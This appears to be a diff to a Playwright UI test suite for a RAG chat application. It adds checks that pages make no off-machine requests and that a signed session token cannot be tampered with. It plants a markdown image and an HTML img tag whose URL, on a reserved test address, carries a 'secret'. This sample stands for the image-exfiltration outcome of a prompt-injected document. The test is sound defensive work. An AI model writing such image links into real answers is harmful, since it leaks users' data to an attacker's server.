@@ -2,6 +2,9 @@
 ``ladder chat-ui`` servers (started once for the module, fake backend). They click through the
 main flows and save a screenshot of every page to tests/ui/screenshots/ (ignored by git).
 
+Every request a page makes is recorded, and every test fails if one left the machine (a
+``:material/...:`` page icon fetched from fonts.gstatic.com, an image in a model's answer).
+
 Skipped, with the reason, when playwright or /usr/bin/chromium is missing (``make test``
 installs both when it can: playwright from the dev extras, chromium with apt as root).
 """
@@ -15,6 +18,7 @@ import socket
 import subprocess
 import sys
 import time
+import urllib.parse
 import urllib.request
 from collections.abc import Iterator
 from pathlib import Path
@@ -25,6 +29,9 @@ import pytest
 from tests.ui.helpers import REPO, write_suite
 
 CHROMIUM = Path(os.environ.get("LADDER_CHROMIUM", "/usr/bin/chromium"))
+# An address in TEST-NET-2 (RFC 5737): nothing answers there, but the browser's request is seen.
+EXFIL = "http://198.51.100.7/exfil.png?q=secret"
+PLANTED = f" ![logo]({EXFIL}) <img src='{EXFIL}&html'>"
 SHOTS = Path(__file__).resolve().parent / "screenshots"
 TIMEOUT_MS = 60_000
 
@@ -85,9 +92,8 @@ def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]
     root = tmp_path_factory.mktemp("browser")
     home = root / "home"
     script = root / "reply.json"
-    script.write_text(json.dumps({"default": "Employees get fifteen days of annual leave [1]."}))
-    strategy = root / "chat_rag.yaml"  # BM25 retrieval: the chat server loads no embedding model
-    strategy.write_text("strategy: rag\nmode: bm25\nmin_score: 0.1\n")
+    # A planted document could make the model write an image whose URL carries a secret.
+    script.write_text(json.dumps({"default": "Employees get fifteen days of annual leave [1]." + PLANTED}))
     strategy = root / "chat_rag.yaml"  # BM25 retrieval: the chat server loads no embedding model
     strategy.write_text("strategy: rag\nmode: bm25\nmin_score: 0.1\n")
     env = {k: v for k, v in os.environ.items() if not k.startswith("LADDER_")}
@@ -117,13 +123,34 @@ def browser(servers: dict[str, Any]) -> Iterator[Any]:
         chromium.close()
 
 
+def _local(url: str) -> bool:
+    parsed = urllib.parse.urlsplit(url)
+    return parsed.scheme in ("data", "blob", "about") or parsed.hostname in ("127.0.0.1", "localhost", "::1")
+
+
+def _record_requests(context: Any) -> list[str]:
+    """Every URL any page of ``context`` asks for (documents, scripts, fonts, images, icons)."""
+    urls: list[str] = []
+    context.on("request", lambda request: urls.append(request.url))
+    return urls
+
+
+def _assert_stayed_local(urls: list[str]) -> None:
+    assert urls, "no request was recorded"
+    assert [url for url in urls if not _local(url)] == []
+
+
 @pytest.fixture
 def page(browser: Any) -> Iterator[Any]:
     context = browser.new_context(viewport={"width": 1400, "height": 1000}, locale="en-US")
+    urls = _record_requests(context)
     tab = context.new_page()
     tab.set_default_timeout(TIMEOUT_MS)
+    tab.requests = urls
     yield tab
+    time.sleep(0.5)  # what the last draw asked for
     context.close()
+    _assert_stayed_local(urls)
 
 
 def _open(page: Any, url: str) -> None:
@@ -190,7 +217,7 @@ def test_workbench_knowledge_base_create_and_upload(page: Any, servers: dict[str
 
 def test_workbench_playground(page: Any, servers: dict[str, Any]) -> None:
     _open(page, servers["ui"] + "/playground")
-    page.get_by_label("Question").fill("What does <b>Ladder</b> decide?")
+    page.get_by_label("Question").fill("What does <b>Ladder</b> decide?" + PLANTED)
     # prompt and reflection side by side (rag is exercised by the chat test)
     page.get_by_role("button", name="Remove rag").click()
     page.get_by_label("Strategies").click()
@@ -200,6 +227,10 @@ def test_workbench_playground(page: Any, servers: dict[str, Any]) -> None:
     page.get_by_text("[fake] What does <b>Ladder</b> decide?").first.wait_for()
     assert page.locator("b", has_text="Ladder").count() == 0  # shown as text, not HTML
     _shot(page, "playground")
+    answer = page.get_by_test_id("stMarkdownContainer").filter(has_text="[fake] What does").first
+    assert answer.locator("img").count() == 0 and "!logo" in answer.inner_text()
+    assert answer.locator("a[href*='198.51.100.7']").count() >= 1  # links at most: fetched only if clicked
+    assert [url for url in page.requests if "198.51.100.7" in url] == []
 
 
 def test_workbench_evaluate(page: Any, servers: dict[str, Any]) -> None:
@@ -224,6 +255,8 @@ def test_chat_thumbs_down_with_correction_reaches_the_review_queue(
     page.get_by_text("Employees get fifteen days of annual leave [1].").first.wait_for()
     page.get_by_text("[1] leave_policy.md").wait_for()
     _shot(page, "chat_answer")
+    assert page.get_by_test_id("stChatMessage").locator("img[src*='198.51.100.7']").count() == 0
+    assert [url for url in page.requests if "198.51.100.7" in url] == []
     page.get_by_test_id("stFeedback").locator("button").nth(1).click()  # thumbs down
     page.get_by_label("What would the right answer be? (optional)").fill("Fifteen working days per year.")
     page.get_by_role("button", name="Send feedback").click()
@@ -295,7 +328,9 @@ def test_screenshots_exist() -> None:
 def test_with_a_password_a_fresh_server_serves_only_the_login(
     browser: Any, tmp_path_factory: pytest.TempPathFactory
 ) -> None:
-    """Straight to a page's URL on a server no one has used yet: still only the login."""
+    """Straight to a page's URL on a server no one has used yet: still only the login. Once
+    signed in, a reload (on any page) stays signed in; a tampered token does not. The chat
+    asks for the same password. The home is new: Decide says what to do first."""
     from ui.auth import hash_password
 
     root = tmp_path_factory.mktemp("locked")
@@ -303,10 +338,14 @@ def test_with_a_password_a_fresh_server_serves_only_the_login(
     env.update(
         LADDER_HOME=str(root / "home"),
         LADDER_TEST_CWD=str(root),
-        LADDER_UI_PASSWORD_HASH=hash_password("open sesame"),
+        LADDER_UI_PASSWORD_HASH=hash_password("open sesame, please"),
     )
-    [(server, url)] = _serve_all([(["ui", "--model", "fake"], root / "ui.log")], env)
-    context = browser.new_context(viewport={"width": 1200, "height": 800})
+    chat_args = ["chat-ui", "--strategy", "prompt", "--model", "fake"]
+    [(server, url), (chat, chat_url)] = _serve_all(
+        [(["ui", "--model", "fake"], root / "ui.log"), (chat_args, root / "chat.log")], env
+    )
+    context = browser.new_context(viewport={"width": 1200, "height": 800}, locale="en-US")
+    urls = _record_requests(context)
     page = context.new_page()
     page.set_default_timeout(TIMEOUT_MS)
     try:
@@ -316,10 +355,41 @@ def test_with_a_password_a_fresh_server_serves_only_the_login(
             assert page.get_by_role("heading", name="Knowledge base").count() == 0
             assert page.get_by_test_id("stSidebarNav").count() == 0
         _shot(page, "login")
-        page.get_by_label("Password", exact=True).fill("open sesame")
+        page.get_by_label("Password", exact=True).fill("open sesame, please")
         page.get_by_role("button", name="Sign in").click()
         page.get_by_role("heading", name="Decide").first.wait_for()
+        page.get_by_text("Getting started").wait_for()  # a new home: what to do first
+        assert "ladder kb" not in page.get_by_test_id("stMain").inner_text()
+        _shot(page, "decide_first_run")
+        page.wait_for_url("**session=*")
+        token = urllib.parse.parse_qs(urllib.parse.urlsplit(page.url).query)["session"][0]
+        page.reload()
+        page.get_by_role("heading", name="Decide").first.wait_for()
+        page.get_by_role("link", name="Knowledge base").first.click()
+        page.get_by_role("heading", name="Knowledge base").first.wait_for()
+        page.wait_for_url("**/knowledge?session=*")
+        page.reload()  # on another page, still signed in
+        page.get_by_role("heading", name="Knowledge base").first.wait_for()
+        assert page.get_by_role("heading", name="Sign in").count() == 0
+        expires, nonce, signature = token.split(".")
+        flipped = ("B" if signature[0] == "A" else "A") + signature[1:]
+        for bad in (f"{int(expires) + 86400}.{nonce}.{signature}", f"{expires}.{nonce}.{flipped}"):
+            _open(page, f"{url}/knowledge?session={bad}")
+            page.get_by_role("heading", name="Sign in").first.wait_for()
+        # The chat: the same password, a session of its own.
+        _open(page, f"{chat_url}/?session={token}")
+        page.get_by_role("heading", name="Sign in").first.wait_for()
+        assert page.get_by_test_id("stChatInput").count() == 0
+        page.get_by_label("Password", exact=True).fill("open sesame, please")
+        page.get_by_role("button", name="Sign in").click()
+        page.get_by_role("heading", name="Ask the assistant").first.wait_for()
+        page.reload()
+        page.get_by_role("heading", name="Ask the assistant").first.wait_for()
+        page.get_by_test_id("stChatInput").wait_for()
+        _shot(page, "chat_signed_in")
     finally:
         context.close()
-        server.terminate()
-        server.wait(10)
+        for process in (server, chat):
+            process.terminate()
+            process.wait(10)
+    _assert_stayed_local(urls)
